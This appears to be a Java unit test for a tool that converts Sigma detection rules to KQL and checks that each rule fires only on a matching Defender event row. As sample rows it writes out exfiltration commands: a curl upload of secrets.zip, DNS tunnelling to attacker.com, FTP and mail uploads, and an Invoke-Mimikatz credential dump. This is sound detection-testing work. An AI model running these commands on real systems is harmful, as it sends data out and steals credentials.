package io.egress.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import io.egress.data.DefenderSchemas;
import io.egress.data.ScalarType;
import io.egress.data.Schema;
import io.egress.data.Table;
import io.egress.kql.engine.Catalog;
import io.egress.kql.engine.Compilation;
import io.egress.kql.engine.KqlEngine;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The bundled rules' KQL binds on the engine over the Defender tables and fires on the matching row only. */
class EngineRunTest {
    private static final KqlEngine ENGINE = new KqlEngine();

    /** A row of the table's schema: empty strings, null elsewhere, then the given column values. */
    static Object[] row(String table, Object... namesAndValues) {
        Schema schema = DefenderSchemas.schema(table).orElseThrow();
        Object[] row = new Object[schema.size()];
        for (int i = 0; i < row.length; i++) {
            row[i] = schema.column(i).type() == ScalarType.STRING ? "" : null;
        }
        for (int i = 0; i < namesAndValues.length; i += 2) {
            int index = schema.indexOf((String) namesAndValues[i]);
            assertThat(index).as((String) namesAndValues[i]).isNotNegative();
            row[index] = namesAndValues[i + 1];
        }
        return row;
    }

    static Stream<Arguments> bundledCases() {
        String proc = "DeviceProcessEvents";
        String net = "DeviceNetworkEvents";
        return Stream.of(
                Arguments.of("proc_creation_ftp_client_upload.yml", proc,
                        row(proc, "FolderPath", "C:\\Windows\\System32\\ftp.exe", "ProcessCommandLine", "ftp -s:C:\\Temp\\ftp.txt"),
                        row(proc, "FolderPath", "C:\\Windows\\System32\\notepad.exe", "ProcessCommandLine", "notepad ftp.txt")),
                Arguments.of("proc_creation_curl_wget_http_upload.yml", proc,
                        row(proc, "FolderPath", "C:\\Windows\\System32\\curl.exe",
                                "ProcessCommandLine", "curl.exe --upload-file secrets.zip http://203.0.113.5:8080/upload"),
                        row(proc, "FolderPath", "C:\\Windows\\System32\\curl.exe", "ProcessCommandLine", "curl.exe https://example.com/")),
                Arguments.of("proc_creation_dns_tunnel_tools.yml", proc,
                        row(proc, "FolderPath", "C:\\Windows\\System32\\nslookup.exe",
                                "ProcessCommandLine", "nslookup aGVsbG8gd29ybGQgdGhpcyBpcyBleGZpbA.attacker.com"),
                        row(proc, "FolderPath", "C:\\Windows\\System32\\nslookup.exe", "ProcessCommandLine", "nslookup example.com")),
                Arguments.of("proc_creation_smtp_mail_tools.yml", proc,
                        row(proc, "FolderPath", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                "ProcessCommandLine", "powershell Send-MailMessage -To a@example.com -SmtpServer 127.0.0.1 -Attachments C:\\x.zip"),
                        row(proc, "FolderPath", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                "ProcessCommandLine", "powershell Get-Process")),
                Arguments.of("net_connection_plaintext_protocol_ports.yml", net,
                        row(net, "ActionType", "ConnectionSuccess", "RemoteIP", "203.0.113.5", "RemotePort", 21,
                                "InitiatingProcessFolderPath", "C:\\Tools\\exfil.exe"),
                        row(net, "ActionType", "ConnectionSuccess", "RemoteIP", "10.1.2.3", "RemotePort", 21,
                                "InitiatingProcessFolderPath", "C:\\Tools\\exfil.exe")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("bundledCases")
    void bundledRuleFiresOnTheMatchingRowOnly(String file, String table, Object[] hit, Object[] miss) {
        SigmaConversion conversion = new SigmaCompiler().compile(BundledRulesTest.folder().resolve(file));
        Compilation compilation = ENGINE.compile(conversion.kql(), Catalog.defender());
        assertThat(compilation.diagnostics().stream().filter(d -> d.isError()).toList()).isEmpty();
        Table input = Table.of(DefenderSchemas.schema(table).orElseThrow(), List.of(hit, miss));
        Table result = compilation.execute(Map.of(table, input), Instant.parse("2026-11-28T12:00:00Z"));
        assertThat(result.rowCount()).isEqualTo(1);
        assertThat(result.rows().get(0)).isEqualTo(hit);
    }

    static Stream<Arguments> mappedFieldCases() {
        String events = "DeviceEvents";
        String net = "DeviceNetworkEvents";
        String proc = "DeviceProcessEvents";
        return Stream.of(
                Arguments.of("product: windows\n  category: dns_query", "sel:\n  QueryName|endswith: '.onion'\ncondition: sel", events,
                        row(events, "ActionType", "DnsQueryResponse", "AdditionalFields",
                                "{\"DnsQueryString\":\"abc.onion\",\"DnsQueryResult\":\"\"}"),
                        row(events, "ActionType", "DnsQueryResponse", "AdditionalFields", "{\"DnsQueryString\":\"example.com\"}")),
                Arguments.of("product: windows\n  category: ps_script", "sel:\n  ScriptBlockText|contains: 'invoke-mimikatz'\ncondition: sel", events,
                        row(events, "ActionType", "PowerShellCommand", "AdditionalFields", "{\"Command\":\"Invoke-Mimikatz -DumpCreds\"}"),
                        row(events, "ActionType", "DnsQueryResponse", "AdditionalFields", "{\"Command\":\"Invoke-Mimikatz\"}")),
                Arguments.of("product: windows\n  category: network_connection",
                        "sel:\n  Initiated: 'false'\n  DestinationPort: 3389\ncondition: sel", net,
                        row(net, "ActionType", "InboundConnectionAccepted", "LocalPort", 3389, "RemotePort", 50123),
                        row(net, "ActionType", "ConnectionSuccess", "LocalPort", 50123, "RemotePort", 3389)),
                Arguments.of("product: windows\n  category: process_creation",
                        "sel:\n  User|endswith: '\\SYSTEM'\n  LogonId: '0x3e7'\ncondition: sel", proc,
                        row(proc, "AccountDomain", "NT AUTHORITY", "AccountName", "SYSTEM", "LogonId", 999L),
                        row(proc, "AccountDomain", "CONTOSO", "AccountName", "alice", "LogonId", 999L)));
        // auditd rules run on the raw AuditdEvent table: RawSourcesTest covers them end to end.
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("mappedFieldCases")
    void mappedFieldsRunOnTheEngine(String logsource, String detection, String table, Object[] hit, Object[] miss) {
        SigmaConversion conversion = SigmaCompilerTest.convert(logsource, detection);
        assertThat(conversion.reason()).isNull();
        Compilation compilation = ENGINE.compile(conversion.kql(), Catalog.defender());
        assertThat(compilation.diagnostics().stream().filter(d -> d.isError()).toList()).isEmpty();
        Table input = Table.of(DefenderSchemas.schema(table).orElseThrow(), List.of(hit, miss));
        Table result = compilation.execute(Map.of(table, input), Instant.parse("2026-11-28T12:00:00Z"));
        assertThat(result.rows()).as(conversion.kql()).containsExactly(hit);
    }
}
